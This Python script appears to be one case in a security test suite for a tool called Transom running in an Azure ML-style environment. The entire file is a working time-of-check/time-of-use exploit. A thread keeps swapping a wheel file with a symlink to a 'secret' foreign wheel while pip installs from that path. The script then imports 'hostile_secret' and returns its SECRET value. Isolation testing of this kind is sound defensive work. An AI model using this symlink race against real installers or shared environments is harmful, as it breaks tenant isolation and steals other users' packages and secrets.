"""Swaps a wheel for a link to a foreign file while Transom reads it."""

import os
import subprocess
import sys
import threading

from attack import BAIT, attack, until


def swap(path, content):
    for count in until(1.0):
        try:
            os.unlink(path)
            if count % 2:
                os.symlink(BAIT["secret_wheel"], path)
            else:
                with open(path, "wb") as stream:
                    stream.write(content)
        except OSError:
            continue


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    name = os.path.basename(BAIT["foreign_wheel"])
    with open(os.path.join("Script Bundle", name), "rb") as stream:
        content = stream.read()
    with open(name, "wb") as stream:
        stream.write(content)
    threading.Thread(target=swap, args=(name, content)).start()
    for _ in range(2):
        subprocess.run([sys.executable, "-m", "pip", "install", "--no-index", "./" + name])
    sys.path.insert(0, os.path.join(os.path.dirname(os.getcwd()), "packages"))
    try:
        import hostile_secret
    except ImportError:
        return ""
    return f"installed what is not its own: {hostile_secret.SECRET}"
